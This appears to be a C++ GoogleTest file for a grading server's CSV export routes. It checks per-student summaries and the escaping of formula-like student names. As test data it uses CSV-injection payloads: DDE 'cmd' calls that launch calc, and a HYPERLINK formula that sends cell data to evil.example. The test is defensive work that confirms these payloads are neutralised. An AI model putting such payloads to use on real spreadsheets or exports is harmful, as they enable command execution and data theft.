// The record's CSVs (API.md §8) against the real binaries, on SQLite and PostgreSQL: the
// students' CSV sums up each student's gradings of each problem (worked out here from the
// answers and the records' times), and a student named as a formula is written with a
// leading apostrophe.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "csv_reader.h"
#include "record_routes_support.h"
#include "server_harness.h"
#include "test_support.h"

namespace headgrader::server {
namespace {

using testing::kGradePath;
using testing::kHandoutSolution;
using testing::kSwappedValues;
using testing::kWrongKey;
using testing::with_student;

using namespace harness;
using record_routes_testing::RecordRoutes;
using store::testing::Backend;

// One row per student and problem, worked out here from the answers and the records' times:
// ada failed, passed, then failed again (3 attempts, best 1, latest failing, first passed at
// her second grading's time); a student named as a formula comes back with its apostrophe.
TEST_P(RecordRoutes, TheStudentsCsvSumsUpEachStudentsGradingsOfEachProblem) {
  const std::uint16_t port = start();
  ASSERT_NE(port, 0);
  const auto time_of = [&](const Json& answer) {
    return Json::parse(call(port, "GET",
                            "/v1/submissions/" + answer["submission_id"].get<std::string>(), staff_)
                           .body())["time"]
        .get<std::string>();
  };
  grade(port, with_student(kWrongKey, "ada"));
  const Json passing = Json::parse(grade(port, with_student(kHandoutSolution, "ada")).body());
  const Json last = Json::parse(grade(port, with_student(kWrongKey, "ada")).body());
  const Json formula =
      Json::parse(grade(port, with_student(kSwappedValues, "=cmd|' /C calc'!A0")).body());
  const std::string proportion =
      R"({"W_q": [[0, 0]], "W_k": [[0, 0]], "W_V": [[1, 0], [0, 1]], "student": "ada"})";
  const HttpResponse other =
      call(port, "POST", "/v1/problems/consonant-proportion/grade", lms_, proportion);
  ASSERT_EQ(other.result(), http::status::ok) << other.body();
  grade(port, kHandoutSolution);  // no student: in no row

  const HttpResponse csv = call(port, "GET", "/v1/students.csv", staff_);
  ASSERT_EQ(csv.result(), http::status::ok) << csv.body();
  EXPECT_EQ(csv[http::field::content_type], "text/csv; charset=utf-8");
  EXPECT_EQ(csv[http::field::content_disposition], "attachment; filename=\"students.csv\"");
  const auto rows = testing_csv::parse_csv(csv.body());
  ASSERT_EQ(rows.size(), 4u) << csv.body();
  EXPECT_EQ(rows[0], (std::vector<std::string>{"student", "problem", "attempts", "best_score",
                                               "latest_score", "passed", "first_passed_at",
                                               "latest_at", "latest_mistakes"}));
  // Byte order: '=' (0x3D) before 'a'.
  EXPECT_EQ(rows[1][0], "'=cmd|' /C calc'!A0");
  EXPECT_EQ(rows[1][2], "1");
  EXPECT_EQ(rows[1][5], "false");
  EXPECT_EQ(rows[1][6], "");
  EXPECT_EQ(rows[1][7], time_of(formula));
  EXPECT_EQ(rows[1][8], "value_rows_swapped");
  const std::vector<std::string>& ada = rows[2];
  EXPECT_EQ(ada[0], "ada");
  EXPECT_EQ(ada[1], "consonant-anywhere");
  EXPECT_EQ(ada[2], "3");
  EXPECT_EQ(std::stod(ada[3]), 1.0);
  EXPECT_EQ(std::stod(ada[4]), last["score"].get<double>());
  EXPECT_EQ(ada[5], "false");
  EXPECT_EQ(ada[6], time_of(passing));
  EXPECT_EQ(ada[7], time_of(last));
  EXPECT_EQ(ada[8], "key_too_soft");
  EXPECT_EQ(rows[3][0], "ada");
  EXPECT_EQ(rows[3][1], "consonant-proportion");
  EXPECT_EQ(rows[3][2], "1");

  // A regrade is no attempt, and is the latest: the file as it is, ada still failing.
  ASSERT_EQ(call(port, "POST", "/v1/problems/consonant-anywhere/regrade", staff_, "{}").result(),
            http::status::ok);
  const HttpResponse one = call(port, "GET", "/v1/students.csv?problem=consonant-anywhere", staff_);
  ASSERT_EQ(one.result(), http::status::ok);
  EXPECT_EQ(one[http::field::content_disposition],
            "attachment; filename=\"students-consonant-anywhere.csv\"");
  const auto only = testing_csv::parse_csv(one.body());
  ASSERT_EQ(only.size(), 3u);
  EXPECT_EQ(only[2][0], "ada");
  EXPECT_EQ(only[2][2], "3");
  EXPECT_NE(only[2][7], time_of(last));  // the regrade's time

  EXPECT_EQ(call(port, "GET", "/v1/students.csv?student=ada", staff_).result(),
            http::status::bad_request);
  EXPECT_EQ(call(port, "GET", "/v1/students.csv", lms_).result(), http::status::forbidden);
  EXPECT_EQ(call(port, "GET", "/v1/students.csv").result(), http::status::unauthorized);
  EXPECT_EQ(call(port, "GET", "/v1/submissions.csv", staff_)[http::field::content_disposition],
            "attachment; filename=\"submissions.csv\"");
}

TEST_P(RecordRoutes, CsvWritesFormulaStudentsWithALeadingApostrophe) {
  const std::uint16_t port = start();
  ASSERT_NE(port, 0);
  const std::vector<std::string> names = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                                          "+cmd|' /C calc'!A0",
                                          "-2+3",
                                          "@SUM(1+1)",
                                          "\t=1+1",
                                          "\r=1+1",
                                          "ada"};
  for (const std::string& name : names) {
    Json body = Json::parse(kWrongKey);
    body["student"] = name;
    ASSERT_EQ(grade(port, body.dump()).result(), http::status::ok) << name;
  }
  const HttpResponse csv = call(port, "GET", "/v1/submissions.csv", staff_);
  ASSERT_EQ(csv.result(), http::status::ok);
  const auto rows = testing_csv::parse_csv(csv.body());
  ASSERT_EQ(rows.size(), names.size() + 1);
  std::vector<std::string> students;
  for (std::size_t i = 1; i < rows.size(); ++i) students.push_back(rows[i][3]);
  for (const std::string& name : names) {
    const std::string written = name == "ada" ? name : "'" + name;
    EXPECT_NE(std::find(students.begin(), students.end(), written), students.end())
        << "the student " << Json(name).dump() << " is not written as " << Json(written).dump()
        << " in:\n"
        << csv.body();
  }
  // No cell of any row starts a formula.
  for (const auto& row : rows) {
    for (const std::string& cell : row) {
      EXPECT_TRUE(cell.empty() ||
                  std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos)
          << Json(cell).dump();
    }
  }
}

}  // namespace
}  // namespace headgrader::server
